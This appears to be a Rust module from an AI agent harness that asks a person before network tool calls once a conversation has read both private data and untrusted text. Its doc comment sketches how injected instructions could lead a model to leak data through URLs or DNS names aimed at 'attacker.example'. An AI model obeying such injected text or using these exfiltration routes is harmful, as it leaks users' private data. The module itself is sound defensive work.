//! Protects against data that is carried out: once a conversation has read private data and words that strangers
//! wrote, a person is asked before anything goes out.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};

use crate::{
    journal::{Decision, Fact},
    message::Message,
    tool::{
        SideEffect::{Mutate, Network, Read, Write},
        SideEffects,
    },
};

/// A policy against data that is carried out: once a conversation has read private data *and* words
/// that strangers wrote, a person is asked before every call of a tool that declares `network`.
///
/// Words of strangers can hold instructions, and a model may follow them. An ordinary `GET` is enough to carry out
/// all that the model has read: in the path or the query of the address (`https://attacker.example/?q=<the file>`),
/// in the host's name (`<the file>.attacker.example`, which is sent with the look-up of the name alone), or piece
/// by piece over several calls. Without this policy a tool that declares `read` + `network` runs without a
/// question, since most of these tools only look something up. With this policy it does so only as long as the
/// conversation lacks private data or words of strangers.
///
/// Whether a result counts follows from what its tool declares, unless the program decides for the tool's name:
///
/// | declared | private data | words of strangers |
/// |---|---|---|
/// | none | no | no |
/// | `read` alone, or with `write` or `mutate` | yes | no |
/// | `network`, `read` + `network` | no | yes |
/// | `read` + `network`, with `write` or `mutate` | yes | yes |
///
/// A file may hold a stranger's words, too: add `.untrusted("read_file")` if it may.
///
/// ```
/// use harness::policy::{Egress, Permissions};
///
/// let permissions = Permissions::default()
///     .egress(Egress::default().private("search_mail").untrusted("search_mail").trusted("weather"));
/// # let _ = permissions;
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Egress {
    private: HashMap<String, bool>,
    untrusted: HashMap<String, bool>,
}

impl Egress {
    /// Results of this tool are private, whatever the tool declares.
    #[must_use]
    pub fn private(mut self, tool: impl Into<String>) -> Self {
        self.private.insert(tool.into(), true);
        self
    }

    /// Results of this tool are not private, whatever the tool declares.
    #[must_use]
    pub fn public(mut self, tool: impl Into<String>) -> Self {
        self.private.insert(tool.into(), false);
        self
    }

    /// Results of this tool may hold words of strangers, whatever the tool declares.
    #[must_use]
    pub fn untrusted(mut self, tool: impl Into<String>) -> Self {
        self.untrusted.insert(tool.into(), true);
        self
    }

    /// Results of this tool hold no words of strangers, whatever the tool declares.
    #[must_use]
    pub fn trusted(mut self, tool: impl Into<String>) -> Self {
        self.untrusted.insert(tool.into(), false);
        self
    }

    /// The reason to ask a person about a call of a tool with these effects, if there is one.
    pub(super) fn asks(&self, effects: SideEffects, exposure: Exposure) -> Option<&'static str> {
        // A side effect that a later version declares may carry data out, too.
        let stays = effects.is_within(&[Read, Write, Mutate]);
        (!stays && exposure.private && exposure.untrusted).then_some(
            "this conversation has read private data and words that strangers wrote, and the call \
             can carry data out",
        )
    }

    fn exposure(&self, tool: &str, effects: SideEffects) -> Exposure {
        let reads_nothing = effects.is_within(&[Write, Network, Mutate]);
        let reads_over_network = effects.has(Network) && effects.is_within(&[Read, Network]);
        let private = !reads_nothing && !reads_over_network;
        let untrusted = !effects.is_within(&[Read, Write, Mutate]);
        Exposure {
            private: self.private.get(tool).copied().unwrap_or(private),
            untrusted: self.untrusted.get(tool).copied().unwrap_or(untrusted),
        }
    }
}

/// What a conversation has read so far.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[non_exhaustive]
pub struct Exposure {
    /// Data that not everybody may see.
    pub private: bool,
    /// Words that were written by somebody other than the program and its user.
    pub untrusted: bool,
}

impl Exposure {
    fn add(&mut self, other: Self) {
        self.private |= other.private;
        self.untrusted |= other.untrusted;
    }
}

/// What a conversation has read, derived from its facts.
#[derive(Clone, Debug, Default)]
pub(crate) struct Exposed {
    exposure: Exposure,
    /// The tool names of the last answer's calls, by call id.
    names: HashMap<String, String>,
    /// The side effects of the allowed calls, by call id.
    allowed: HashMap<String, SideEffects>,
}

impl Exposed {
    /// Starts a conversation that continues another one, which has read this.
    pub(crate) fn of(exposure: Exposure) -> Self {
        Self { exposure, ..Self::default() }
    }

    pub(crate) fn exposure(&self) -> Exposure {
        self.exposure
    }

    /// Adds a call of which only the tool is known.
    pub(crate) fn add(&mut self, egress: &Egress, tool: &str, effects: SideEffects) {
        self.exposure.add(egress.exposure(tool, effects));
    }

    /// Applies a fact. A call counts as soon as it has started, since even a call that is stopped tells the model
    /// its output so far.
    pub(crate) fn apply(&mut self, egress: &Egress, fact: &Fact) {
        match fact {
            Fact::Given { transcript } => {
                for call in transcript.messages().iter().flat_map(Message::calls) {
                    // It is not known what the tool declared then, so the worst is assumed.
                    self.add(egress, call.name(), SideEffects::ALL);
                }
            }
            Fact::ModelReplied { message, .. } | Fact::Interrupted { message, .. } => {
                if let Some(message) = message {
                    self.allowed.clear();
                    self.names = message
                        .calls()
                        .map(|call| (call.id().to_owned(), call.name().to_owned()))
                        .collect();
                }
            }
            Fact::CallDecided { call, decision: Decision::Allow { side_effects, .. } } => {
                self.allowed.insert(call.clone(), *side_effects);
            }
            Fact::CallStarted { call } => {
                let name = self.names.get(call).map_or("", String::as_str);
                let effects = self.allowed.get(call).copied().unwrap_or(SideEffects::ALL);
                self.exposure.add(egress.exposure(name, effects));
            }
            Fact::UserSaid { .. }
            | Fact::Resumed { .. }
            | Fact::Steered { .. }
            | Fact::AnswerWanted { .. }
            | Fact::AnswerAccepted {}
            | Fact::AnswerRejected { .. }
            | Fact::Reopened { .. }
            | Fact::CalledBy { .. }
            | Fact::Forked {}
            | Fact::CallWaits { .. }
            | Fact::CallAnswered { .. }
            | Fact::CallUndecided { .. }
            | Fact::CallCleared { .. }
            | Fact::GrantRevoked { .. }
            | Fact::ToolsFound { .. }
            | Fact::ContextCleared { .. }
            | Fact::ContextCompacted { .. }
            | Fact::CompactionFailed { .. }
            | Fact::VendorSummaryRefused { .. }
            | Fact::ContextOverflowed { .. }
            | Fact::ContextPinned { .. }
            | Fact::CallDecided { decision: Decision::Deny { .. }, .. }
            | Fact::CallFinished { .. }
            | Fact::CallSettled { .. }
            | Fact::CallEnded { .. } => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{Egress, Exposure};
    use crate::tool::{
        SideEffect::{self, Mutate, Network, Read, Write},
        SideEffects,
    };

    #[test]
    fn what_counts_is_what_the_table_says() {
        let exposed = Exposure { private: true, untrusted: true };
        let table: [(&[SideEffect], bool, bool); 12] = [
            (&[], false, false),
            (&[Write], false, false),
            (&[Mutate], false, false),
            (&[Read], true, false),
            (&[Read, Write], true, false),
            (&[Read, Mutate], true, false),
            (&[Network], false, true),
            (&[Network, Mutate], false, true),
            (&[Read, Network], false, true),
            (&[Read, Network, Write], true, true),
            (&[Read, Network, Mutate], true, true),
            (&SideEffect::ALL, true, true),
        ];
        for (declared, private, untrusted) in table {
            let effects = SideEffects::of(declared);
            let egress = Egress::default();
            assert_eq!(egress.exposure("a", effects), Exposure { private, untrusted }, "{effects}");
            assert_eq!(egress.asks(effects, exposed).is_some(), untrusted, "{effects}");
        }
    }
}
